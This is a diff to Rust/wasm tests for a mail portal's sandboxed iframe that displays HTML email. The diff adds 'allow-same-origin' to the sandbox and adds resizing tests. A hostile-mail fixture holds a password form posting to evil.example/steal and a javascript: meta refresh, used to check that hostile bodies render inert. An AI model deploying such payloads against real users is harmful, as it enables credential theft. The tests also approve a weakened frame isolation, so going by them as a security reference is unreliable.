@@ -139,16 +139,6 @@ const HOSTILE: &str = r#"<p>Hello</p>
 <form action="https://evil.example/steal"><input name="pw"></form>
 <meta http-equiv="refresh" content="0;url=javascript:parent.postMessage('refresh ran','*')">"#;
 
-/// A `blob:` URL of `html` as a document, standing in for the body route
-/// (the test runner's server does not serve it).
-fn document_url(html: &str) -> String {
-    let parts = js_sys::Array::of1(&html.into());
-    let options = web_sys::BlobPropertyBag::new();
-    options.set_type("text/html");
-    let blob = web_sys::Blob::new_with_str_sequence_and_options(&parts, &options).unwrap();
-    web_sys::Url::create_object_url_with_blob(&blob).unwrap()
-}
-
 #[wasm_bindgen_test]
 async fn an_html_body_is_framed_from_its_own_route() {
     let mut message = message_view();
@@ -166,7 +156,7 @@ async fn an_html_body_is_framed_from_its_own_route() {
     assert!(frame.get_attribute("srcdoc").is_none());
     assert_eq!(
         frame.get_attribute("sandbox").as_deref(),
-        Some("allow-popups allow-popups-to-escape-sandbox")
+        Some("allow-same-origin allow-popups allow-popups-to-escape-sandbox")
     );
     assert_eq!(
         frame.get_attribute("referrerpolicy").as_deref(),
@@ -226,14 +216,20 @@ async fn a_hostile_html_body_renders_inert() {
         "no injected script ran"
     );
     assert_eq!(*trap.alerts.lock().unwrap(), 0, "no alert");
-    let sandbox = frame
-        .get_attribute("sandbox")
-        .expect("the frame is sandboxed");
-    assert!(!sandbox.contains("allow-scripts"), "{sandbox}");
-    assert!(!sandbox.contains("allow-same-origin"), "{sandbox}");
     assert!(
-        frame.content_document().is_none(),
-        "the body's document is cross-origin to the portal"
+        !frame.sandbox().contains("allow-scripts"),
+        "{:?}",
+        frame.get_attribute("sandbox")
+    );
+    // The portal may read the body's document (to size the frame); the
+    // body's own script still never ran, though its elements are there.
+    let body = frame
+        .content_document()
+        .expect("the body's document is readable by the portal");
+    assert!(body.query_selector("script").unwrap().is_some());
+    assert!(
+        body.get_element_by_id("js").is_some(),
+        "the hostile document is the one in the frame"
     );
     assert_eq!(
         frame.get_attribute("referrerpolicy").as_deref(),
@@ -244,6 +240,224 @@ async fn a_hostile_html_body_renders_inert() {
         "the body's links stay inside the frame"
     );
     web_sys::Url::revoke_object_url(&hostile).unwrap();
+}
+
+#[wasm_bindgen_test]
+async fn the_body_frame_never_carries_allow_scripts() {
+    let mut message = message_view();
+    message.body = BodyView {
+        text: None,
+        html: true,
+    };
+    let (_api, _page) = reading(message, "en");
+    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
+
+    // Same-origin only lets the portal read the body's size; without
+    // allow-scripts the body itself can run nothing, so it gains nothing.
+    let tokens = frame.sandbox();
+    assert!(
+        !tokens.contains("allow-scripts"),
+        "{:?}",
+        frame.get_attribute("sandbox")
+    );
+    let mut granted: Vec<String> = (0..tokens.length())
+        .filter_map(|i| tokens.item(i))
+        .collect();
+    granted.sort();
+    assert_eq!(
+        granted,
+        [
+            "allow-popups",
+            "allow-popups-to-escape-sandbox",
+            "allow-same-origin"
+        ],
+        "nothing else: no forms, no top navigation, no modals, no downloads"
+    );
+    assert_eq!(
+        sealmail_portal::components::html_body::SANDBOX
+            .split_whitespace()
+            .filter(|token| *token == "allow-scripts")
+            .count(),
+        0
+    );
+}
+
+/// A mail of an ordinary length (a heading, a paragraph, a 60-row table),
+/// then a table 900 px wide, then a last line the reader must reach.
+fn long_mail() -> String {
+    let rows: String = (1..=60)
+        .map(|i| format!("<tr><td>Branch {i}</td><td>{}</td></tr>", i * 1250))
+        .collect();
+    let regions: String = (1..=9)
+        .map(|i| {
+            format!(
+                "<td style=\"white-space:nowrap\">Region {i}: {}</td>",
+                i * 9100
+            )
+        })
+        .collect();
+    body_document(&format!(
+        "<h1>Quarterly figures</h1>\
+         <p>Dear Bob, here are this quarter's figures for every branch, as promised at \
+         our last meeting. The totals are at the bottom, and the wide table after them \
+         compares the regions side by side.</p>\
+         <table>{rows}</table>\
+         <table style=\"width:900px\"><tr>{regions}</tr></table>\
+         <p id=\"last\">Kind regards, Alice</p>"
+    ))
+}
+
+/// The body's document, which the portal can read (same origin, no script).
+fn frame_document(frame: &web_sys::HtmlIFrameElement) -> web_sys::Document {
+    frame
+        .content_document()
+        .expect("the portal can read the body's document to size its frame")
+}
+
+/// The frame is at least as tall as its document, which has nothing left to
+/// scroll vertically: the page's scroll bar is the only one.
+fn fits_its_content(frame: &web_sys::HtmlIFrameElement) -> bool {
+    let root = frame_document(frame).document_element().unwrap();
+    let frame_height = frame.get_bounding_client_rect().height();
+    frame_height >= f64::from(root.scroll_height()) && root.scroll_height() <= root.client_height()
+}
+
+/// The frame fits its content and is no taller: its viewport ends where the
+/// body does (give or take a rounded pixel), so it follows the content down
+/// as well as up.
+fn hugs_its_content(frame: &web_sys::HtmlIFrameElement) -> bool {
+    let document = frame_document(frame);
+    let body = document.body().unwrap();
+    let content = body.get_bounding_client_rect().height().ceil();
+    let viewport = document.document_element().unwrap().client_height();
+    fits_its_content(frame) && f64::from(viewport) <= content + 1.0
+}
+
+/// What the frame's height is, for the messages.
+fn frame_sizes(frame: &web_sys::HtmlIFrameElement) -> String {
+    let root = frame_document(frame).document_element().unwrap();
+    format!(
+        "frame {} px high, its document {} px to scroll in a {} px viewport",
+        frame.get_bounding_client_rect().height(),
+        root.scroll_height(),
+        root.client_height()
+    )
+}
+
+#[wasm_bindgen_test]
+async fn a_long_html_body_grows_its_frame_to_its_content_at_phone_and_desktop_widths() {
+    let loads = FrameLoads::watch();
+    let mail = document_url(&long_mail());
+    let mut message = message_view();
+    message.body = BodyView {
+        text: None,
+        html: true,
+    };
+    let mut info = link_info();
+    info.session_open = true;
+    let api = FakeApi::new()
+        .link(vec![Ok(info)])
+        .message(vec![Ok(message)])
+        .body_url(&mail);
+    let _page = mount_reader(&api, Some("en"));
+    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
+    until("the body to load", || loads.loaded() >= 1).await;
+
+    let container: web_sys::HtmlElement = query("[data-test-mount]").unwrap().unchecked_into();
+    let mut heights = Vec::new();
+    for width in [375, 1280] {
+        container
+            .style()
+            .set_property("width", &format!("{width}px"))
+            .unwrap();
+        until(
+            &format!("the frame to fit its content at {width} px"),
+            || hugs_its_content(&frame),
+        )
+        .await;
+        // And it stays so: not a passing moment of a frame still settling.
+        sleep(100).await;
+        assert!(
+            hugs_its_content(&frame),
+            "{width} px: {}",
+            frame_sizes(&frame)
+        );
+        let root = frame_document(&frame).document_element().unwrap();
+        if width == 375 {
+            // The wide table scrolls sideways inside the frame ...
+            assert!(
+                root.scroll_width() > root.client_width() + 400,
+                "the 900 px table is cut to {} px",
+                root.scroll_width()
+            );
+            // ... and never widens the page.
+            assert!(
+                container.scroll_width() <= 375,
+                "the page is {} px wide",
+                container.scroll_width()
+            );
+        }
+        // The last line is inside the frame's visible height.
+        let last = frame_document(&frame).get_element_by_id("last").unwrap();
+        assert!(
+            last.get_bounding_client_rect().bottom() <= f64::from(root.client_height()),
+            "{width} px: the last line is below the frame's edge"
+        );
+        heights.push(frame.get_bounding_client_rect().height());
+    }
+    // Wider, the text wraps less: the frame follows its content down too.
+    assert!(heights[0] > heights[1], "{heights:?}");
+    web_sys::Url::revoke_object_url(&mail).unwrap();
+}
+
+#[wasm_bindgen_test]
+async fn the_frame_follows_its_content_as_images_decode_after_loading() {
+    let loads = FrameLoads::watch();
+    let mail = document_url(&body_document("<p id=\"greeting\">Hello Bob,</p>"));
+    let mut message = message_view();
+    message.body = BodyView {
+        text: None,
+        html: true,
+    };
+    let mut info = link_info();
+    info.session_open = true;
+    let api = FakeApi::new()
+        .link(vec![Ok(info)])
+        .message(vec![Ok(message)])
+        .body_url(&mail);
+    let _page = mount_reader(&api, Some("en"));
+    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
+    until("the body to load", || loads.loaded() >= 1).await;
+    until("the frame to fit its short body", || {
+        hugs_its_content(&frame)
+    })
+    .await;
+    let short = frame.get_bounding_client_rect().height();
+    assert!(short < 200.0, "a one-line body in a {short} px frame");
+
+    // An image that only decodes now (as late images and web fonts change
+    // the body's size after its load event): the frame grows to show it all.
+    let body = frame_document(&frame);
+    let image = body.create_element("img").unwrap();
+    image
+        .set_attribute(
+            "src",
+            "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='40' height='900'%3E%3C/svg%3E",
+        )
+        .unwrap();
+    body.body().unwrap().append_child(&image).unwrap();
+    until("the frame to grow to the image", || {
+        frame.get_bounding_client_rect().height() >= short + 900.0 && hugs_its_content(&frame)
+    })
+    .await;
+
+    // And back when it goes.
+    image.remove();
+    until("the frame to shrink back", || {
+        (frame.get_bounding_client_rect().height() - short).abs() < 1.0
+    })
+    .await;
+    web_sys::Url::revoke_object_url(&mail).unwrap();
 }
 
 #[wasm_bindgen_test]
